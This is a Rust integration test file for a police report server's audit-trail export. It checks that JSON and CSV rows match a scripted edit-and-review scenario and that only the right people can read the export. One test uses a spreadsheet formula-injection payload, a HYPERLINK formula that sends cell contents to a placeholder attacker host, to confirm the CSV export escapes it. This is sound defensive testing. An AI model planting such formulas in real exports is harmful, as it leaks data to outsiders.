//! The audit trail over real HTTP: a scripted scenario (two devices of one officer and their
//! team's supervisor) and its export, field by field, as JSON and CSV; who may read it.

use automerge::ActorId;
use fieldbook_core::clock::{Clock, SystemClock};
use fieldbook_core::doc::{ChangeAuthor, RecordDoc};
use fieldbook_core::domain::{OfficerId, Record, RecordId, RecordKind, Role, Timestamp};
use fieldbook_core::storage::DatabaseKey;
use fieldbook_core::sync::wire::{
    self, Bytes, EnrolRequest, EnrolResponse, ErrorBody, PushOutcome, RecordPush, SyncRequest,
    SyncResponse,
};
use fieldbook_core::workflow::{self, User};
use fieldbook_server::{Admin, RunningServer, ServerConfig};
use serde_json::{Value, json};
use std::path::PathBuf;
use std::time::Duration;

struct Fixture {
    server: RunningServer,
    db: PathBuf,
    client: reqwest::Client,
    _dir: tempfile::TempDir,
}

struct Dev {
    token: String,
    device_id: String,
    actor: ActorId,
    user: User,
}

const BASE: i64 = 1_790_000_000_000;

fn t(ms: i64) -> Timestamp {
    Timestamp::from_millis(BASE + ms).expect("valid time")
}

fn key() -> DatabaseKey {
    DatabaseKey::Raw([0x5a; 32])
}

fn now_ms() -> i64 {
    SystemClock.now().millis()
}

async fn fixture() -> Fixture {
    let dir = tempfile::tempdir().expect("temp dir");
    let db = dir.path().join("server.db");
    let config = ServerConfig::new("127.0.0.1:0".parse().expect("addr"), &db, key());
    let server = fieldbook_server::start(config)
        .await
        .expect("server starts");
    let client = reqwest::Client::builder()
        .timeout(Duration::from_secs(20))
        .build()
        .expect("client");
    Fixture {
        server,
        db,
        client,
        _dir: dir,
    }
}

impl Fixture {
    async fn device(&self, officer: &str, role: Role, team: &str) -> Dev {
        let id = OfficerId::new(officer).expect("officer id");
        let code = Admin::open(&self.db, &key())
            .expect("admin opens")
            .enrol(&id, "Test Officer", role, Some(team))
            .expect("code");
        let actor = fieldbook_core::doc::new_actor();
        let request = EnrolRequest {
            protocol: wire::PROTOCOL_VERSION,
            code,
            actors: vec![actor.to_hex_string()],
            label: "test phone".into(),
        };
        let (status, body) = self.post("/v1/enrol", None, wire::encode(&request)).await;
        assert_eq!(status, 200, "{:?}", wire::decode::<ErrorBody>(&body));
        let response: EnrolResponse = wire::decode(&body).expect("enrol response");
        Dev {
            token: response.token,
            device_id: response.device_id,
            actor,
            user: User {
                officer: response.officer,
                role: response.role,
            },
        }
    }

    async fn post(&self, path: &str, token: Option<&str>, body: Vec<u8>) -> (u16, Vec<u8>) {
        let mut req = self
            .client
            .post(format!("{}{path}", self.server.url()))
            .header("content-type", wire::CONTENT_TYPE)
            .body(body);
        if let Some(token) = token {
            req = req.header("authorization", format!("Bearer {token}"));
        }
        let resp = req.send().await.expect("request sent");
        let status = resp.status().as_u16();
        (status, resp.bytes().await.expect("body").to_vec())
    }

    /// Pushes every change of `doc` after `from`; asserts it is accepted.
    async fn push(&self, dev: &Dev, doc: &RecordDoc, from: &[automerge::ChangeHash]) {
        let record = doc.hydrate().expect("record");
        let push = RecordPush {
            record: record.id(),
            kind: record.kind(),
            changes: doc
                .automerge()
                .get_changes(from)
                .iter()
                .map(|c| Bytes(c.raw_bytes().to_vec()))
                .collect(),
        };
        let request = SyncRequest {
            protocol: wire::PROTOCOL_VERSION,
            cursor: 0,
            page_limit: 10,
            push: vec![push],
        };
        let (status, body) = self
            .post("/v1/sync", Some(&dev.token), wire::encode(&request))
            .await;
        assert_eq!(status, 200, "{:?}", wire::decode::<ErrorBody>(&body));
        let response: SyncResponse = wire::decode(&body).expect("sync response");
        assert!(
            matches!(response.results[0].outcome, PushOutcome::Accepted { .. }),
            "{:?}",
            response.results[0].outcome
        );
    }

    async fn audit(&self, dev: &Dev, id: RecordId, query: &str, accept: &str) -> (u16, String) {
        let resp = self
            .client
            .get(format!(
                "{}/v1/records/{id}/audit{query}",
                self.server.url()
            ))
            .header("authorization", format!("Bearer {}", dev.token))
            .header("accept", accept)
            .send()
            .await
            .expect("request sent");
        let status = resp.status().as_u16();
        let body = resp.bytes().await.expect("body").to_vec();
        let text = if status == 200 {
            String::from_utf8(body).expect("utf-8")
        } else {
            wire::decode::<ErrorBody>(&body).expect("an ErrorBody").code
        };
        (status, text)
    }
}

fn author(dev: &Dev) -> ChangeAuthor {
    ChangeAuthor {
        by: dev.user.officer.clone(),
        role: dev.user.role,
    }
}

fn narrative(record: &mut Record, text: &str) {
    match record {
        Record::Crime(c) => c.narrative = text.to_owned(),
        _ => panic!("a crime report"),
    }
}

const FIRST: &str = "Bike taken from the rack outside the library";
const SECOND: &str = "Bike taken, \"D-lock cut\", from the rack\noutside the library\r\nat 14:00";
const REASON: &str = "Say which rack, and whether there is CCTV, please";

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_audit_export_matches_every_change_of_a_scripted_scenario() {
    let f = fixture().await;
    let phone = f.device("PC1", Role::Officer, "A").await;
    let tablet = f.device("PC1", Role::Officer, "A").await;
    let sergeant = f.device("SGT1", Role::Supervisor, "A").await;
    let other_officer = f.device("PC2", Role::Officer, "B").await;
    let other_sergeant = f.device("SGT2", Role::Supervisor, "B").await;

    // 1. PC1 creates the record on the phone at t(0).
    let started = now_ms();
    let mut record = Record::new(
        RecordKind::CrimeReport,
        RecordId::generate(),
        phone.user.officer.clone(),
        t(0),
    );
    narrative(&mut record, FIRST);
    let id = record.id();
    let mut doc = RecordDoc::create(&record, &phone.actor, &author(&phone), t(0)).expect("doc");
    let create = doc.heads();
    f.push(&phone, &doc, &[]).await;

    // 2. PC1 edits the account on the tablet at t(100_000).
    let mut on_tablet = doc.fork_as(&tablet.actor);
    let mut record = on_tablet.hydrate().expect("record");
    narrative(&mut record, SECOND);
    on_tablet
        .update(&record, &author(&tablet), "edit", t(100_000))
        .expect("edit");
    let edit = on_tablet.heads();
    f.push(&tablet, &on_tablet, &create).await;

    // 3. PC1 submits on the phone at t(200_000).
    doc.merge(&mut on_tablet).expect("merge");
    let mut record = doc.hydrate().expect("record");
    workflow::submit(&mut record, &phone.user, &[], t(200_000)).expect("submit");
    doc.update(&record, &author(&phone), "submit", t(200_000))
        .expect("submit");
    let submit = doc.heads();
    f.push(&phone, &doc, &edit).await;

    // 4. The sergeant returns it with a reason at t(300_000).
    let mut reviewed = doc.fork_as(&sergeant.actor);
    let mut record = reviewed.hydrate().expect("record");
    workflow::return_to_author(&mut record, &sergeant.user, REASON, t(300_000)).expect("return");
    reviewed
        .update(&record, &author(&sergeant), "return", t(300_000))
        .expect("return");
    let ret = reviewed.heads();
    f.push(&sergeant, &reviewed, &submit).await;
    let finished = now_ms();

    // The export, as JSON (the default).
    let (status, body) = f.audit(&sergeant, id, "", "*/*").await;
    assert_eq!(status, 200, "{body}");
    let rows: Vec<Value> = serde_json::from_str(&body).expect("JSON rows");
    let change = |h: &[automerge::ChangeHash]| h[0].to_string();
    let of = |hash: &str| -> Vec<&Value> { rows.iter().filter(|r| r["change"] == hash).collect() };
    assert_eq!(
        rows.iter()
            .map(|r| r["change"].as_str().expect("hash"))
            .collect::<std::collections::BTreeSet<_>>()
            .len(),
        4,
        "every change and only these: {rows:#?}"
    );
    for r in &rows {
        assert_eq!(r["record"], json!(id.to_string()));
        let received = Timestamp::parse(r["server_received_at"].as_str().expect("received"))
            .expect("a time")
            .millis();
        assert!(
            (started..=finished).contains(&received),
            "receipt time {received} is when the server received the push"
        );
    }

    // The creation lists the narrative, by PC1 on the phone at t(0).
    let created = of(&change(&create));
    let first = created
        .iter()
        .find(|r| r["field"] == "narrative")
        .expect("the narrative's creation");
    assert_eq!(first["officer"], "PC1");
    assert_eq!(first["role"], "officer");
    assert_eq!(first["device"], json!(phone.device_id));
    assert_eq!(first["device_time"], json!(t(0).to_rfc3339()));
    assert_eq!(first["action"], "create");
    assert_eq!(first["old"], Value::Null);
    assert_eq!(first["new"], FIRST);

    // The edit: exactly one row, old → new, by PC1 on the tablet.
    let edited = of(&change(&edit));
    assert_eq!(edited.len(), 1, "{edited:#?}");
    assert_eq!(edited[0]["field"], "narrative");
    assert_eq!(edited[0]["officer"], "PC1");
    assert_eq!(edited[0]["device"], json!(tablet.device_id));
    assert_eq!(edited[0]["device_time"], json!(t(100_000).to_rfc3339()));
    assert_eq!(edited[0]["action"], "edit");
    assert_eq!(edited[0]["old"], FIRST);
    assert_eq!(edited[0]["new"], SECOND);

    // The submission: one workflow row, by PC1 on the phone.
    let submitted = of(&change(&submit));
    assert_eq!(submitted.len(), 1, "{submitted:#?}");
    assert_eq!(submitted[0]["field"], "meta.workflow");
    assert_eq!(submitted[0]["action"], "submitted");
    assert_eq!(submitted[0]["device"], json!(phone.device_id));
    assert_eq!(submitted[0]["device_time"], json!(t(200_000).to_rfc3339()));
    assert_eq!(submitted[0]["reason"], Value::Null);

    // The return: one workflow row with the reason, by the sergeant on their device.
    let returned = of(&change(&ret));
    assert_eq!(returned.len(), 1, "{returned:#?}");
    assert_eq!(returned[0]["field"], "meta.workflow");
    assert_eq!(returned[0]["action"], "returned");
    assert_eq!(returned[0]["officer"], "SGT1");
    assert_eq!(returned[0]["role"], "supervisor");
    assert_eq!(returned[0]["device"], json!(sergeant.device_id));
    assert_eq!(returned[0]["device_time"], json!(t(300_000).to_rfc3339()));
    assert_eq!(returned[0]["reason"], REASON);

    // The same rows as CSV (query or Accept), parsing back with the quoted narrative intact.
    for (query, accept) in [("?format=csv", "application/json"), ("", "text/csv")] {
        let (status, text) = f.audit(&phone, id, query, accept).await;
        assert_eq!(status, 200, "{text}");
        assert!(text.starts_with("record,change,officer,role,device,device_time,server_received_at,action,field,old,new,reason\r\n"));
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        let back: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("a row")).collect();
        assert_eq!(back.len(), rows.len());
        let edit_row = back
            .iter()
            .find(|r| &r[1] == change(&edit).as_str())
            .expect("the edit row");
        assert_eq!(&edit_row[9], FIRST);
        assert_eq!(&edit_row[10], SECOND);
        assert_eq!(&edit_row[4], tablet.device_id.as_str());
        let return_row = back
            .iter()
            .find(|r| &r[1] == change(&ret).as_str())
            .expect("the return row");
        assert_eq!(&return_row[11], REASON);
    }

    // Who may read it.
    assert_eq!(f.audit(&tablet, id, "", "*/*").await.0, 200, "the author");
    assert_eq!(
        f.audit(&other_officer, id, "", "*/*").await,
        (403, "forbidden".to_owned()),
        "an officer of another team"
    );
    assert_eq!(
        f.audit(&other_sergeant, id, "", "*/*").await,
        (403, "forbidden".to_owned()),
        "another team's supervisor"
    );
    assert_eq!(
        f.audit(&sergeant, RecordId::generate(), "", "*/*").await,
        (404, "unknown-record".to_owned())
    );
    assert_eq!(
        f.audit(&sergeant, id, "?format=xml", "*/*").await,
        (400, "malformed".to_owned())
    );
    let anonymous = f
        .client
        .get(format!("{}/v1/records/{id}/audit", f.server.url()))
        .send()
        .await
        .expect("request sent");
    assert_eq!(anonymous.status().as_u16(), 401);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_csv_export_neutralises_cells_a_spreadsheet_would_evaluate_and_json_keeps_them() {
    let f = fixture().await;
    let phone = f.device("PC1", Role::Officer, "A").await;
    const FORMULA: &str = "=HYPERLINK(\"http://evil.invalid/?\"&A1,\"Open the report\")";
    let mut record = Record::new(
        RecordKind::CrimeReport,
        RecordId::generate(),
        phone.user.officer.clone(),
        t(0),
    );
    narrative(&mut record, FORMULA);
    let id = record.id();
    let doc = RecordDoc::create(&record, &phone.actor, &author(&phone), t(0)).expect("doc");
    f.push(&phone, &doc, &[]).await;

    let (status, text) = f.audit(&phone, id, "?format=csv", "*/*").await;
    assert_eq!(status, 200, "{text}");
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let cell = reader
        .records()
        .map(|r| r.expect("a row"))
        .find(|r| &r[8] == "narrative")
        .expect("the narrative row")[10]
        .to_owned();
    assert_eq!(
        cell,
        format!("'{FORMULA}"),
        "shown as text, never evaluated"
    );

    let (status, body) = f.audit(&phone, id, "", "*/*").await;
    assert_eq!(status, 200, "{body}");
    let rows: Vec<Value> = serde_json::from_str(&body).expect("JSON rows");
    let narrative_row = rows
        .iter()
        .find(|r| r["field"] == "narrative")
        .expect("the narrative row");
    assert_eq!(narrative_row["new"], FORMULA, "JSON keeps what was typed");
}
